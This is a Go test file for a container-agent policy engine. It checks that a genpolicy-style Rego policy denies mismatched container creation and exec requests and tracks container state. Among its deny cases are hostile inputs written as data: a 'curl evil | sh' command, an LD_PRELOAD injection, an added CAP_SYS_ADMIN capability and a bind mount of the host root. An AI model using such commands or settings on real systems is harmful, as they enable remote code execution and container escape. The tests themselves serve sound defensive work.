package policy

import (
	"context"
	"fmt"
	"strings"
	"testing"

	"github.com/containerd/errdefs"
	"google.golang.org/protobuf/proto"

	pb "github.com/cova-project/cova/protocols/grpc"
)

// genpolicyStyle is a policy in the shape genpolicy emits, written for these
// tests: a policy_data document describing the pod's one container (args,
// env literals and regexes, image, exec commands), a stateful
// CreateContainerRequest that matches a request against it and records the
// sandbox and the container in data.pstate, a RemoveContainerRequest that
// forgets the container, and an ExecProcessRequest that looks the container
// up in the state. It is Rego v0 with future keywords, as genpolicy writes.
const genpolicyStyle = `package agent_policy

import future.keywords.in
import future.keywords.every
import future.keywords.if

default CreateContainerRequest := false
default RemoveContainerRequest := true
default ExecProcessRequest := false
default StartContainerRequest := true
default WaitProcessRequest := true
default ReadStreamRequest := false

S_NAME := "io.kubernetes.cri.sandbox-name"
S_NAMESPACE := "io.kubernetes.cri.sandbox-namespace"

CreateContainerRequest := {"ops": ops, "allowed": true} if {
	print("CreateContainerRequest: start")
	is_null(input.OCI.Hooks)
	count(input.shared_mounts) == 0
	is_null(input.string_user)

	i_oci := input.OCI
	i_oci.Annotations[S_NAMESPACE] == policy_data.namespace
	sandbox_ops := sandbox_state(i_oci.Annotations[S_NAME])

	some idx, p in policy_data.containers
	print("CreateContainerRequest: trying policy container", idx)
	container_matches(p, input)

	not input.container_id in object.keys(data.pstate)
	ops := array.concat(sandbox_ops, [{"op": "add", "path": concat("/", ["/pstate", input.container_id]), "value": idx}])
	print("CreateContainerRequest: true")
}

# The first container fixes the sandbox name; later ones must agree.
sandbox_state(name) := [] if {
	data.pstate.sandbox_name == name
}
sandbox_state(name) := [{"op": "add", "path": "/pstate/sandbox_name", "value": name}] if {
	not data.pstate.sandbox_name
	name == policy_data.sandbox_name
}

container_matches(p, i) if {
	i_process := i.OCI.Process
	print("container_matches: args", i_process.Args)
	p.Args == i_process.Args
	p.Cwd == i_process.Cwd
	p.NoNewPrivileges == i_process.NoNewPrivileges
	i_process.User.UID == p.UID
	p.Readonly == i.OCI.Root.Readonly
	i.OCI.Annotations["io.kubernetes.cri.container-name"] == p.name

	every e in i_process.Env {
		print("container_matches: env", e)
		env_allowed(p, e)
	}
	every c in i_process.Capabilities.Bounding {
		c in policy_data.default_caps
	}
	every m in i.OCI.Mounts {
		print("container_matches: mount", m.destination)
		mount_allowed(p, m)
	}
	every s in i.storages {
		storage_allowed(p, s, i.container_id)
	}
	print("container_matches: true")
}

env_allowed(p, e) if e in p.env

env_allowed(p, e) if {
	some r in p.env_regex
	regex.match(r, e)
}

mount_allowed(p, m) if {
	some pm in p.mounts
	pm.destination == m.destination
	pm.type_ == m.type_
	regex.match(pm.source, m.source)
	pm.options == m.options
}

storage_allowed(p, s, cid) if {
	s.driver == "image_guest_pull"
	s.source == p.image
	s.fstype == "overlay"
	s.mount_point == concat("", ["/run/kata-containers/", cid, "/rootfs"])
}

RemoveContainerRequest := {"ops": [{"op": "remove", "path": concat("/", ["/pstate", input.container_id])}], "allowed": true} if {
	input.container_id in object.keys(data.pstate)
}

ExecProcessRequest if {
	idx := data.pstate[input.container_id]
	p := policy_data.containers[idx]
	some cmd in p.exec_commands
	cmd == input.process.Args
	print("ExecProcessRequest: true")
}

policy_data := {
	"namespace": "default",
	"sandbox_name": "web-pod",
	"default_caps": ["CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_FSETID", "CAP_FOWNER", "CAP_MKNOD", "CAP_NET_RAW",
		"CAP_SETGID", "CAP_SETUID", "CAP_SETFCAP", "CAP_SETPCAP", "CAP_NET_BIND_SERVICE", "CAP_SYS_CHROOT",
		"CAP_KILL", "CAP_AUDIT_WRITE"],
	"containers": [{
		"name": "web",
		"image": "docker.io/library/nginx@sha256:0f04e4f646a3f14bf31d8bc8d885b6c951fdcf42589d06845f64d18aec6a3c4d",
		"Args": ["nginx", "-g", "daemon off;"],
		"Cwd": "/",
		"UID": 0,
		"NoNewPrivileges": false,
		"Readonly": false,
		"env": [
			"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
			"NGINX_VERSION=1.27.0",
		],
		"env_regex": [
			"^HOSTNAME=[a-z0-9]([-a-z0-9]*[a-z0-9])?$",
			"^API_TOKEN=.*$",
			"^[A-Z][A-Z0-9_]*_SERVICE_HOST=(([0-9]|[1-9][0-9]|1[0-9]{2}|2[0-4][0-9]|25[0-5])\\.){3}([0-9]|[1-9][0-9]|1[0-9]{2}|2[0-4][0-9]|25[0-5])$",
			"^[A-Z][A-Z0-9_]*_SERVICE_PORT=[0-9]{1,5}$",
		],
		"mounts": [
			{"destination": "/proc", "type_": "proc", "source": "^proc$", "options": ["nosuid", "noexec", "nodev"]},
			{"destination": "/dev", "type_": "tmpfs", "source": "^tmpfs$", "options": ["nosuid", "strictatime", "mode=755", "size=65536k"]},
			{"destination": "/etc/resolv.conf", "type_": "bind", "source": "^/run/kata-containers/shared/containers/[a-z0-9]+-[a-z0-9]{16}-resolv\\.conf$", "options": ["rbind", "rprivate", "ro"]},
		],
		"exec_commands": [["/bin/sh", "-c", "test -f /run/nginx.pid"]],
	}],
}
`

func TestGenpolicyStyle(t *testing.T) {
	log, buf := debugLogger()
	e := mustEngine(t, genpolicyStyle, Options{Logger: log})
	ctx := context.Background()

	modified := func(f func(r *pb.CreateContainerRequest)) *pb.CreateContainerRequest {
		r := sampleCreateContainer("c9")
		f(r)
		return r
	}
	denials := []struct {
		name   string
		req    *pb.CreateContainerRequest
		reason string
	}{
		{"other args", modified(func(r *pb.CreateContainerRequest) { r.OCI.Process.Args = []string{"sh", "-c", "curl evil | sh"} }), "container_matches: args"},
		{"extra env", modified(func(r *pb.CreateContainerRequest) {
			r.OCI.Process.Env = append(r.OCI.Process.Env, "LD_PRELOAD=/tmp/x.so")
		}), "container_matches: env LD_PRELOAD=<redacted>"},
		{"env regex miss", modified(func(r *pb.CreateContainerRequest) { r.OCI.Process.Env[1] = "HOSTNAME=Bad_Host" }), "container_matches: env HOSTNAME=<redacted>"},
		{"other image", modified(func(r *pb.CreateContainerRequest) { r.Storages[0].Source = "docker.io/library/nginx:latest" }), "container_matches: mount /etc/resolv.conf"},
		{"storage elsewhere", modified(func(r *pb.CreateContainerRequest) { r.Storages[0].MountPoint = "/run/kata-containers/other/rootfs" }), ""},
		{"hooks", modified(func(r *pb.CreateContainerRequest) { r.OCI.Hooks = &pb.Hooks{} }), "CreateContainerRequest: start"},
		{"extra capability", modified(func(r *pb.CreateContainerRequest) {
			r.OCI.Process.Capabilities.Bounding = append(r.OCI.Process.Capabilities.Bounding, "CAP_SYS_ADMIN")
		}), ""},
		{"extra mount", modified(func(r *pb.CreateContainerRequest) {
			r.OCI.Mounts = append(r.OCI.Mounts, &pb.Mount{Destination: "/host", Source: "/", Type: "bind", Options: []string{"rbind"}})
		}), "container_matches: mount /host"},
		{"other namespace", modified(func(r *pb.CreateContainerRequest) {
			r.OCI.Annotations["io.kubernetes.cri.sandbox-namespace"] = "kube-system"
		}), ""},
		{"other sandbox", modified(func(r *pb.CreateContainerRequest) { r.OCI.Annotations["io.kubernetes.cri.sandbox-name"] = "other-pod" }), ""},
		{"read-only root flipped", modified(func(r *pb.CreateContainerRequest) { r.OCI.Root.Readonly = true }), ""},
	}
	for _, tc := range denials {
		t.Run("deny/"+tc.name, func(t *testing.T) {
			err := e.Allow(ctx, "CreateContainer", tc.req)
			if !errdefs.IsPermissionDenied(err) {
				t.Fatalf("got %v, want PERMISSION_DENIED", err)
			}
			if !strings.HasPrefix(err.Error(), "CreateContainerRequest is blocked by policy: ") || !strings.Contains(err.Error(), tc.reason) {
				t.Errorf("message %q lacks %q", err, tc.reason)
			}
		})
	}
	if len(e.State()) != 0 {
		t.Fatalf("denied requests changed the state: %v", e.State())
	}

	// The exact request is allowed and recorded.
	if err := e.Allow(ctx, "CreateContainer", sampleCreateContainer("c1")); err != nil {
		t.Fatalf("the policy's own container denied: %v", err)
	}
	st := e.State()
	if st["sandbox_name"] != sandboxName || fmt.Sprint(st["c1"]) != "0" {
		t.Fatalf("state %v", st)
	}
	// The same container id again is refused.
	if err := e.Allow(ctx, "CreateContainer", sampleCreateContainer("c1")); !errdefs.IsPermissionDenied(err) {
		t.Errorf("second create of c1: %v", err)
	}

	execCases := []struct {
		name  string
		req   *pb.ExecProcessRequest
		allow bool
	}{
		{"probe command", &pb.ExecProcessRequest{ContainerId: "c1", Process: &pb.Process{Args: []string{"/bin/sh", "-c", "test -f /run/nginx.pid"}}}, true},
		{"shell", &pb.ExecProcessRequest{ContainerId: "c1", Process: &pb.Process{Args: []string{"/bin/sh"}}}, false},
		{"unknown container", &pb.ExecProcessRequest{ContainerId: "c2", Process: &pb.Process{Args: []string{"/bin/sh", "-c", "test -f /run/nginx.pid"}}}, false},
	}
	for _, tc := range execCases {
		t.Run("exec/"+tc.name, func(t *testing.T) {
			err := e.Allow(ctx, "ExecProcess", tc.req)
			if tc.allow != (err == nil) {
				t.Errorf("allow=%v, got %v", tc.allow, err)
			}
		})
	}

	if err := e.Allow(ctx, "RemoveContainer", &pb.RemoveContainerRequest{ContainerId: "c1"}); err != nil {
		t.Fatalf("remove: %v", err)
	}
	if _, ok := e.State()["c1"]; ok {
		t.Errorf("c1 still in state after remove: %v", e.State())
	}
	if err := e.Allow(ctx, "ExecProcess", execCases[0].req); err == nil {
		t.Error("exec into a removed container allowed")
	}

	if strings.Contains(buf.String(), secretMarker) {
		t.Error("env value in the log")
	}
}

func BenchmarkAllowCreateContainer(b *testing.B) {
	ctx := context.Background()
	run := func(b *testing.B, policy string, reqs func(i int) []struct {
		rpc string
		req proto.Message
		ok  bool
	}) {
		e := mustEngine(b, policy, Options{})
		b.ReportAllocs()
		b.ResetTimer()
		for i := 0; b.Loop(); i++ {
			for _, r := range reqs(i) {
				if err := e.Allow(ctx, r.rpc, r.req); (err == nil) != r.ok {
					b.Fatalf("%s: %v", r.rpc, err)
				}
			}
		}
	}
	type step = struct {
		rpc string
		req proto.Message
		ok  bool
	}
	create := sampleCreateContainer("c1")
	b.Run("coco-default", func(b *testing.B) {
		run(b, CocoDefaultPolicy(), func(int) []step { return []step{{"CreateContainer", create, true}} })
	})
	b.Run("allow-all", func(b *testing.B) {
		run(b, AllowAllPolicy(), func(int) []step { return []step{{"CreateContainer", create, true}} })
	})
	// Allowed, stateful: each iteration creates and removes the container
	// (two evaluations for the create, which changes the state, one each for
	// the remove, plus two patches).
	remove := &pb.RemoveContainerRequest{ContainerId: "c1"}
	b.Run("genpolicy-style/create+remove", func(b *testing.B) {
		run(b, genpolicyStyle, func(int) []step {
			return []step{{"CreateContainer", create, true}, {"RemoveContainer", remove, true}}
		})
	})
	// Denied at the last env variable: the whole match runs, no state change.
	denied := sampleCreateContainer("c1")
	denied.OCI.Process.Env = append(denied.OCI.Process.Env, "EVIL=1")
	b.Run("genpolicy-style/denied", func(b *testing.B) {
		run(b, genpolicyStyle, func(int) []step { return []step{{"CreateContainer", denied, false}} })
	})
}

// BenchmarkAllowReadStream is the cost on the hottest path: the output pump
// asks on every read.
func BenchmarkAllowReadStream(b *testing.B) {
	ctx := context.Background()
	e := mustEngine(b, CocoDefaultPolicy(), Options{})
	req := &pb.ReadStreamRequest{ContainerId: "c1", ExecId: "c1", Len: 32768}
	b.ReportAllocs()
	for b.Loop() {
		if err := e.Allow(ctx, "ReadStdout", req); err == nil {
			b.Fatal("allowed")
		}
	}
}
